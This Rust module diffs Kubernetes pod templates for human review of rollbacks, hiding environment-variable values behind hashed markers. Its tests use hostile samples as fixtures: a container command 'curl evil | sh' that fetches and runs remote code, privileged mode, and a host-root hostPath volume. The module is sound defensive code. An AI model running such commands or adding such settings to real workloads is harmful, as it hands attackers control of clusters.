//! What differs between two pod templates, field by field, for a plan and the question a
//! human is asked: a rollback that keeps the image but turns on `privileged` or swaps the
//! command must not look like "images [x:1.0] → [x:1.0]".
//!
//! Environment variables are shown by name only (added, removed, value changed) — never a
//! value, which may be a credential. Values are shown compactly and bounded in size, and so
//! is the number of differences listed.

use std::collections::BTreeMap;

use serde_json::{Value, json};

use crate::guard::Change;

/// Longest rendering of one value.
const MAX_VALUE_CHARS: usize = 240;
/// Most differences listed (a last entry says how many more there were).
const MAX_CHANGES: usize = 40;

/// Field-by-field differences of two pod templates (`{metadata, spec}` as JSON).
pub fn template_changes(before: &Value, after: &Value) -> Vec<Change> {
    let mut out = Vec::new();
    diff(
        "spec.template",
        &strip(before.clone()),
        &strip(after.clone()),
        &mut out,
    );
    if out.len() > MAX_CHANGES {
        let more = out.len() - MAX_CHANGES;
        out.truncate(MAX_CHANGES);
        out.push(Change {
            field: "…".into(),
            before: json!(format!("{more} more differences not listed")),
            after: Value::Null,
        });
    }
    out
}

/// One line of the differences, for a summary.
pub fn changes_line(changes: &[Change]) -> String {
    if changes.is_empty() {
        return "no difference in the pod template".into();
    }
    changes
        .iter()
        .take(6)
        .map(|c| format!("{}: {} → {}", c.field, render(&c.before), render(&c.after)))
        .collect::<Vec<_>>()
        .join("; ")
        + &if changes.len() > 6 {
            format!("; and {} more", changes.len() - 6)
        } else {
            String::new()
        }
}

/// Replace every env entry by its name and a stand-in for its value, so values never
/// reach a diff; the marker changes when the value does, which is all the diff needs.
fn strip(mut template: Value) -> Value {
    // the pod-template-hash label differs between revisions by nature
    if let Some(labels) = template
        .pointer_mut("/metadata/labels")
        .and_then(Value::as_object_mut)
    {
        labels.remove("pod-template-hash");
    }
    for list in ["containers", "initContainers", "ephemeralContainers"] {
        if let Some(cs) = template
            .pointer_mut(&format!("/spec/{list}"))
            .and_then(Value::as_array_mut)
        {
            for c in cs {
                if let Some(env) = c.get_mut("env").and_then(Value::as_array_mut) {
                    for e in env.iter_mut() {
                        let fingerprint = fingerprint(e);
                        let name = e.get("name").cloned().unwrap_or(Value::Null);
                        *e = json!({"name": name, "value": fingerprint});
                    }
                }
            }
        }
    }
    template
}

/// A short stand-in for an env entry's value that differs when the value does, without
/// revealing anything of it: a process-local keyed hash (the key is random per process, so
/// the stand-in cannot be looked up or brute-forced offline).
fn fingerprint(entry: &Value) -> String {
    use std::hash::{BuildHasher, Hash, Hasher};
    static KEY: std::sync::LazyLock<std::collections::hash_map::RandomState> =
        std::sync::LazyLock::new(std::collections::hash_map::RandomState::new);
    let mut h = KEY.build_hasher();
    entry.get("value").map(Value::to_string).hash(&mut h);
    entry.get("valueFrom").map(Value::to_string).hash(&mut h);
    format!("(value not shown #{:x})", h.finish() & 0xffff_ffff)
}

/// Arrays of named entries (containers, volumes, env, ports) are matched by name.
fn by_name(items: &[Value]) -> Option<BTreeMap<String, &Value>> {
    items
        .iter()
        .map(|i| {
            i.get("name")
                .and_then(Value::as_str)
                .map(|n| (n.to_string(), i))
        })
        .collect()
}

fn diff(path: &str, before: &Value, after: &Value, out: &mut Vec<Change>) {
    if before == after {
        return;
    }
    match (before, after) {
        (Value::Object(b), Value::Object(a)) => {
            let keys: std::collections::BTreeSet<&String> = b.keys().chain(a.keys()).collect();
            for k in keys {
                let nb = b.get(k).unwrap_or(&Value::Null);
                let na = a.get(k).unwrap_or(&Value::Null);
                diff(&format!("{path}.{k}"), nb, na, out);
            }
        }
        (Value::Array(b), Value::Array(a)) if path.ends_with(".env") => {
            // env: names only — added, removed, value changed
            let (Some(b), Some(a)) = (by_name(b), by_name(a)) else {
                return push(path, before, after, out);
            };
            for (n, v) in &b {
                match a.get(n) {
                    None => push_plain(&format!("{path}.{n}"), json!("set"), json!("removed"), out),
                    Some(w) if w != v => push_plain(
                        &format!("{path}.{n}"),
                        json!("(value not shown)"),
                        json!("(another value, not shown)"),
                        out,
                    ),
                    Some(_) => {}
                }
            }
            for n in a.keys().filter(|n| !b.contains_key(*n)) {
                push_plain(
                    &format!("{path}.{n}"),
                    json!("not set"),
                    json!("added (value not shown)"),
                    out,
                );
            }
        }
        (Value::Array(b), Value::Array(a)) => match (by_name(b), by_name(a)) {
            (Some(bn), Some(an)) if !bn.is_empty() || !an.is_empty() => {
                let names: std::collections::BTreeSet<&String> =
                    bn.keys().chain(an.keys()).collect();
                for n in names {
                    let nb = bn.get(n).copied().unwrap_or(&Value::Null);
                    let na = an.get(n).copied().unwrap_or(&Value::Null);
                    diff(&format!("{path}[{n}]"), nb, na, out);
                }
            }
            _ => push(path, before, after, out),
        },
        _ => push(path, before, after, out),
    }
}

fn push(path: &str, before: &Value, after: &Value, out: &mut Vec<Change>) {
    push_plain(path, bounded(before), bounded(after), out);
}

fn push_plain(path: &str, before: Value, after: Value, out: &mut Vec<Change>) {
    out.push(Change {
        field: path.to_string(),
        before,
        after,
    });
}

/// A value as it is, or its JSON text cut to a bounded length.
fn bounded(v: &Value) -> Value {
    let text = v.to_string();
    if text.chars().count() <= MAX_VALUE_CHARS {
        v.clone()
    } else {
        let cut: String = text.chars().take(MAX_VALUE_CHARS).collect();
        json!(format!(
            "{cut}… ({} characters in all)",
            text.chars().count()
        ))
    }
}

fn render(v: &Value) -> String {
    match v {
        Value::Null => "none".into(),
        Value::String(s) => s.clone(),
        other => other.to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn template(image: &str, privileged: bool, command: &[&str], env: Value) -> Value {
        json!({
            "metadata": {"labels": {"app": "x", "pod-template-hash": "abc"}},
            "spec": {
                "serviceAccountName": "default",
                "containers": [{
                    "name": "app", "image": image, "command": command,
                    "securityContext": {"privileged": privileged},
                    "env": env,
                }],
                "volumes": [{"name": "data", "emptyDir": {}}],
            }
        })
    }

    #[test]
    fn same_image_other_security_context_and_command_are_listed() {
        let env = json!([{"name": "MODE", "value": "a"}]);
        let before = template("x:1.0", false, &["run"], env.clone());
        let after = template("x:1.0", true, &["sh", "-c", "curl evil | sh"], env);
        let changes = template_changes(&before, &after);
        let fields: Vec<&str> = changes.iter().map(|c| c.field.as_str()).collect();
        assert!(
            fields.contains(&"spec.template.spec.containers[app].securityContext.privileged"),
            "{fields:?}"
        );
        assert!(
            fields.contains(&"spec.template.spec.containers[app].command"),
            "{fields:?}"
        );
        assert!(!fields.iter().any(|f| f.contains("image")), "{fields:?}");
        assert!(!fields.iter().any(|f| f.contains("pod-template-hash")));
        let line = changes_line(&changes);
        assert!(line.contains("privileged: false → true"), "{line}");
    }

    #[test]
    fn env_values_never_appear() {
        let before = template(
            "x:1",
            false,
            &[],
            json!([{"name": "DB_PASSWORD", "value": "hunter2-old"}, {"name": "GONE", "value": "s3cr3t-gone"}]),
        );
        let after = template(
            "x:2",
            false,
            &[],
            json!([{"name": "DB_PASSWORD", "value": "hunter2-new"}, {"name": "NEW_TOKEN", "value": "tok-123456"}]),
        );
        let changes = template_changes(&before, &after);
        let text = serde_json::to_string(&changes).unwrap();
        for secret in ["hunter2-old", "hunter2-new", "s3cr3t-gone", "tok-123456"] {
            assert!(!text.contains(secret), "{text}");
        }
        for name in ["DB_PASSWORD", "GONE", "NEW_TOKEN"] {
            assert!(text.contains(name), "{name} missing: {text}");
        }
        assert!(text.contains("x:2"));
    }

    #[test]
    fn volumes_service_account_and_resources_are_compared() {
        let before = template("x:1", false, &[], json!([]));
        let mut after = before.clone();
        after["spec"]["serviceAccountName"] = json!("admin");
        after["spec"]["volumes"] = json!([{"name": "data", "hostPath": {"path": "/"}}]);
        after["spec"]["containers"][0]["resources"] = json!({"limits": {"memory": "1Gi"}});
        let fields: Vec<String> = template_changes(&before, &after)
            .into_iter()
            .map(|c| c.field)
            .collect();
        for want in [
            "spec.template.spec.serviceAccountName",
            "spec.template.spec.volumes[data].hostPath",
            "spec.template.spec.volumes[data].emptyDir",
            "spec.template.spec.containers[app].resources",
        ] {
            assert!(fields.iter().any(|f| f == want), "{want} not in {fields:?}");
        }
    }

    #[test]
    fn output_is_bounded() {
        let before = template("x:1", false, &[], json!([]));
        let mut after = before.clone();
        after["spec"]["containers"][0]["command"] = json!(["x".repeat(10_000)]);
        for i in 0..100 {
            after["spec"]["nodeSelector"][format!("k{i}")] = json!("v");
        }
        let changes = template_changes(&before, &after);
        assert!(changes.len() <= MAX_CHANGES + 1);
        assert!(serde_json::to_string(&changes).unwrap().len() < 20_000);
    }
}
